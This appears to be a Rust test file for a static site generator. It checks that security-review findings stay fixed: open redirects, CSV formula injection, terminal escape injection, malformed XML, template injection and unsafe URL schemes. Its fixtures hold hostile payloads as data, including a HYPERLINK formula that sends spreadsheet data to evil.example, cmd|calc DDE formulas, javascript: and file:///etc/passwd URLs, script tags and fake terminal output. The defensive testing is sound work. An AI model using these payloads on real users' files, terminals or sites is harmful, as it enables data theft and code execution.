//! Hostile input aimed at what the site publishes beside its pages and at the terminal: the
//! security review's reproductions of F7 (base URLs that lead to another host), F8 (formulas
//! in CSV cells), F13 (terminal escapes in diagnostics) and F14 (characters XML forbids).

use std::collections::BTreeMap;

use crate::fixture::{ARTICLE, Fixture};

/// The fixture's `base_url:` line, as written in `CONFIG`.
const BASE_URL_LINE: &str = "base_url: \"https://example.org/dossier/\"";

/// Every base URL whose path could make the 404 page's links (rooted at the path) or a
/// redirect of `serve` lead to another host is a located error, and nothing is published.
#[test]
fn base_urls_that_could_lead_to_another_host_are_located_errors() {
    for (url, yaml) in [
        (
            "https://example.org/\\evil.example/",
            "https://example.org/\\\\evil.example/",
        ),
        (
            "https://example.org//evil.example/",
            "https://example.org//evil.example/",
        ),
        ("//evil.example/", "//evil.example/"),
        (
            "javascript://example.org/%0aalert(1)",
            "javascript://example.org/%0aalert(1)",
        ),
        (
            "https://example.org/do\"><script>alert(1)</script>/",
            "https://example.org/do\\\"><script>alert(1)</script>/",
        ),
        ("https://example.org/a/../b/", "https://example.org/a/../b/"),
    ] {
        let fixture = Fixture::new();
        fixture.edit("dossier.yaml", BASE_URL_LINE, &format!("base_url: \"{yaml}\""));
        let stderr = fixture.run(&["build"]).fails().to_owned();
        assert!(stderr.contains("dossier.yaml:4:11"), "{url}: {stderr}");
        assert!(stderr.contains("base URL"), "{url}: {stderr}");
        assert!(!fixture.path("public").exists(), "{url}: published anyway");

        let fixture = Fixture::new();
        fixture.edit("dossier.yaml", BASE_URL_LINE, "");
        let run = fixture.run(&["build", "--base-url", url]);
        assert_eq!(run.code, 2, "{url}: {}", run.stderr);
        assert!(run.stderr.contains("base URL"), "{url}: {}", run.stderr);
        let run = fixture.run(&[
            "serve",
            "--root",
            fixture.root().to_str().unwrap(),
            "--port",
            "0",
            "--base-url",
            url,
        ]);
        assert_eq!(run.code, 2, "serve {url}: {}", run.stderr);
    }
}

/// With an accepted base URL, the 404 page (served at any depth) loads its scripts and
/// stylesheets from its own host only.
#[test]
fn the_404_page_loads_assets_from_its_own_host_only() {
    let fixture = Fixture::new();
    fixture.build();
    let page = fixture.page("404.html");
    let mut assets = page.attrs("script[src]", "src");
    assets.extend(page.attrs("link[href]", "href"));
    assert!(assets.iter().any(|u| u == "/dossier/static/search.js"), "{assets:?}");
    for url in assets {
        assert!(
            url.starts_with("/dossier/") && !url.contains('\\'),
            "404.html loads {url}"
        );
    }
    for url in page.attrs("a[href]", "href") {
        let rooted = url.starts_with("/dossier/") && !url.contains('\\');
        let absolute = url.starts_with("https://example.org/") || url.starts_with("https://example.com/");
        assert!(rooted || absolute || url.starts_with('#'), "404.html links to {url}");
    }
}

/// Payloads from the review (F8), each in a field that reaches the CSV files.
const FORMULAS: [(&str, &str, &str, &str); 6] = [
    (
        "content/sources/a.yaml",
        "statement: \"Nordkorea hat Russland mit knapp 11.000 Soldaten unterstützt.\"",
        "statement: \"=HYPERLINK(\\\"https://evil.example/?\\\"&A1,\\\"Details\\\")\"",
        "=HYPERLINK(\"https://evil.example/?\"&A1,\"Details\")",
    ),
    (
        "content/sources/a.yaml",
        "statement: \"Nordkorea könnte bis zu 100.000 Soldaten entsenden.\"",
        "statement: \"Nordkorea könnte bis zu 100.000 Soldaten entsenden.\"\n    summary: \"+cmd|' /C calc'!A0\"",
        "+cmd|' /C calc'!A0",
    ),
    (
        "content/sources/a.yaml",
        "note: \"Deckt sich mit *anderen* Berichten.\"",
        "note: \"@SUM(1+1)*cmd|' /C calc'!A0\"",
        "@SUM(1+1)*cmd|' /C calc'!A0",
    ),
    (
        "content/sources/a.yaml",
        "outlet: \"Testblatt\"",
        "outlet: \"-2+3+cmd|' /C calc'!A0\"",
        "-2+3+cmd|' /C calc'!A0",
    ),
    ("content/origins.yaml", "name: \"Bloomberg\"", "name: \"=1+2\"", "=1+2"),
    (
        "content/sources/a.yaml",
        "title: \"Nordkorea schickt Soldaten\"",
        "title: \"\\t=1+1\"",
        "\t=1+1",
    ),
];

/// Every cell that a spreadsheet would run as a formula starts with `'` in every CSV file;
/// `claims.json` keeps the values as written.
#[test]
fn csv_cells_never_start_a_formula_and_json_keeps_the_raw_values() {
    let fixture = Fixture::new();
    for (file, from, to, _) in FORMULAS {
        fixture.edit(file, from, to);
    }
    fixture.build();
    let mut files = vec![fixture.path("public/claims.csv")];
    for entry in std::fs::read_dir(fixture.path("public/topics")).unwrap() {
        let csv = entry.unwrap().path().join("claims.csv");
        if csv.exists() {
            files.push(csv);
        }
    }
    assert!(files.len() >= 3, "{files:?}");
    let mut cells = BTreeMap::new();
    for file in &files {
        let mut reader = csv::Reader::from_path(file).unwrap();
        for row in reader.records() {
            for cell in row.unwrap().iter() {
                let numeric = cell.trim_start_matches('-').parse::<f64>().is_ok();
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']) || numeric,
                    "{}: formula cell {cell:?}",
                    file.display()
                );
                *cells.entry(cell.to_owned()).or_insert(0) += 1;
            }
        }
    }
    for (_, _, _, payload) in FORMULAS {
        assert!(
            cells.contains_key(&format!("'{payload}")),
            "{payload:?} not neutralised: {cells:?}"
        );
    }
    let json: serde_json::Value = serde_json::from_str(&fixture.read("public/claims.json")).unwrap();
    let values: Vec<String> = json
        .as_array()
        .unwrap()
        .iter()
        .flat_map(|record| record.as_object().unwrap().values())
        .filter_map(|v| v.as_str().map(str::to_owned))
        .collect();
    for (_, _, _, payload) in FORMULAS {
        assert!(
            values.iter().any(|v| v == payload),
            "{payload:?} not kept raw in claims.json"
        );
    }
}

/// ESC, BEL and other control characters from YAML values and article lines reach the
/// terminal escaped, never raw (F13).
#[test]
fn diagnostics_never_send_control_characters_to_the_terminal() {
    let fixture = Fixture::new();
    fixture.edit(
        "content/sources/a.yaml",
        "topic: ru-staerke\n    quantity: { value: 500000",
        "topic: \"x\\e]0;PWNED-TITLE\\a\\e[2J\\e[31mFAKE: all good\\e[0m\"\n    quantity: { value: 500000",
    );
    fixture.write(
        "seeds/a.txt",
        &format!("{ARTICLE}\nInjected \u{1b}]0;PWNED\u{7} \u{1b}[2J text mit 5 Soldaten, \u{9b}31m.\n"),
    );
    let stderr = fixture.run(&["check"]).fails().to_owned();
    assert!(stderr.contains("PWNED-TITLE"), "{stderr}");
    assert!(stderr.contains("x\\u{1b}]0;PWNED-TITLE\\u{7}\\u{1b}[2J"), "{stderr}");
    let raw: Vec<char> = stderr
        .chars()
        .filter(|&c| c.is_control() && c != '\n' && c != '\t')
        .collect();
    assert!(raw.is_empty(), "raw control characters {raw:?} in:\n{stderr}");
}

/// U+FFFE, U+FFFF and C0 controls in any text never make `feed.xml` or `sitemap.xml`
/// ill-formed (F14).
#[test]
fn xml_files_stay_well_formed_with_characters_xml_forbids() {
    let fixture = Fixture::new();
    fixture.edit(
        "content/sources/a.yaml",
        "statement: \"Nordkorea hat Russland",
        "statement: \"\\uFFFE\\uFFFF\\x01\\x1b Nordkorea hat Russland",
    );
    fixture.edit(
        "content/sources/a.yaml",
        "outlet: \"Testblatt\"",
        "outlet: \"Test\\uFFFFblatt\\x0b\"",
    );
    // The review's markup payload (held family 2) rides along in a claim's summary.
    fixture.edit(
        "content/sources/a.yaml",
        "statement: \"Russland hatte etwa 500.000 aktive Soldaten.\"",
        "statement: \"Russland hatte etwa 500.000 aktive Soldaten.\"\n    summary: \"<script>alert(1)</script>]]><!--<![CDATA[&amp;\\u2028\"",
    );
    fixture.edit(
        "dossier.yaml",
        "title: \"Test-Dossier\"",
        "title: \"Test\\uFFFE-Dossier\\x08\"",
    );
    fixture.build();
    for file in ["public/feed.xml", "public/sitemap.xml"] {
        let xml = fixture.read(file);
        if let Err(error) = roxmltree::Document::parse(&xml) {
            panic!("{file} is not well-formed XML: {error}\n{xml}");
        }
    }
    let feed = fixture.read("public/feed.xml");
    assert!(feed.contains("Nordkorea hat Russland"), "{feed}");
    assert!(feed.contains("Testblatt"), "{feed}");
    let document = roxmltree::Document::parse(&feed).unwrap();
    let summaries: Vec<&str> = document
        .descendants()
        .filter(|n| n.has_tag_name("summary"))
        .filter_map(|n| n.text())
        .collect();
    assert!(
        summaries
            .iter()
            .any(|s| s.contains("<script>alert(1)</script>]]><!--<![CDATA[&amp;\u{2028}")),
        "the payload is text in the feed: {summaries:?}"
    );
    assert!(
        !document.descendants().any(|n| n.has_tag_name("script")),
        "no element from content"
    );
}

// ---------------------------------------------------------------------------------------------
// What held in the review, kept held.

/// Held family 3: template syntax in content comes out literally, never evaluated.
#[test]
fn template_syntax_in_content_is_shown_literally() {
    let fixture = Fixture::new();
    let payload = "{{ 7*7 }} {% raw %}x{% endraw %}";
    fixture.edit(
        "dossier.yaml",
        "title: \"Test-Dossier\"",
        &format!("title: \"{payload}\""),
    );
    fixture.edit(
        "content/sources/a.yaml",
        "statement: \"Nordkorea hat Russland",
        &format!("statement: \"{payload} Nordkorea hat Russland"),
    );
    fixture.write(
        "content/pages/methodik.md",
        &format!("---\ntitle: \"{payload}\"\n---\n{payload}\n"),
    );
    fixture.build();
    for page in ["index.html", "claims/nk-11000/index.html", "methodik/index.html"] {
        let html = fixture.read(&format!("public/{page}"));
        assert!(html.contains("{{ 7*7 }} {% raw %}x{% endraw %}"), "{page}: not literal");
        assert!(!html.contains(" 49 "), "{page}: evaluated");
    }
}

/// Held family 5: URL fields take only http(s) URLs (the base URL too, see above).
#[test]
fn url_fields_take_only_http_urls() {
    let fields = [
        ("content/sources/a.yaml", "url: \"https://example.com/a\""),
        ("content/sources/a.yaml", "language: de\nexclude:"),
        ("dossier.yaml", "url: \"https://example.org/\""),
        ("dossier.yaml", BASE_URL_LINE),
    ];
    for value in [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "data:text/html;base64,PHNjcmlwdD4=",
        "vbscript:msgbox(1)",
        "file:///etc/passwd",
        "//evil.example/x",
        "ftp://example.org/",
        "example.org/x",
    ] {
        for (index, (file, line)) in fields.iter().enumerate() {
            let fixture = Fixture::new();
            let replacement = match index {
                0 => format!("url: \"{value}\""),
                1 => format!("archive_url: \"{value}\"\nlanguage: de\nexclude:"),
                2 => format!("url: \"{value}\""),
                _ => format!("base_url: \"{value}\""),
            };
            fixture.edit(file, line, &replacement);
            let run = fixture.run(&["check"]);
            assert_eq!(run.code, 1, "{file} {line:?} = {value:?} accepted:\n{}", run.stderr);
        }
    }
}

/// Held family 6: the UI language is one of a list, never text put into `lang="…"`.
#[test]
fn the_ui_language_is_checked() {
    let fixture = Fixture::new();
    fixture.edit(
        "dossier.yaml",
        "language: de",
        "language: \"en\\\" onload=\\\"alert(1)\"",
    );
    let stderr = fixture.run(&["check"]).fails().to_owned();
    assert!(stderr.contains("dossier.yaml:3:"), "{stderr}");
}

/// Held family 7: template overrides cannot read the environment or files.
#[test]
fn template_overrides_cannot_read_the_environment_or_files() {
    for body in ["{{ get_env(name=\"HOME\") }}", "{% include \"/etc/passwd\" %}"] {
        let fixture = Fixture::new();
        fixture.write("templates/404.html", body);
        let run = fixture.run(&["build"]);
        assert_ne!(run.code, 0, "{body} built");
        assert!(!run.stderr.contains("panicked"), "{}", run.stderr);
        assert!(!fixture.path("public").exists(), "{body}: published anyway");
    }
}
